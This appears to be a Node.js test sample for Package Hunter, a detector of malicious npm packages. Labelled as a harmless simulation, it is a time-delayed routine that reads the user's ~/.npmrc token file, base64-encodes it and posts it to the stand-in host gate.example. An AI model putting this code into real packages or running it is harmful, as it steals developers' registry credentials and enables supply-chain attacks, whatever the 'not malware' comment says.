// Harmless simulation for testing Package Hunter. Not malware.
const fs = require("fs");
const https = require("https");
const os = require("os");
const path = require("path");


const ready = Date.now() >= Date.UTC(2027, 5, 1);

if (ready) {
  let token = "";
  try { token = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8"); } catch (error) { /* not there */ }
  const request = https.request({ hostname: "gate.example", path: "/g", method: "POST" });
  request.on("error", () => {});
  request.end(Buffer.from(token).toString("base64"));
}
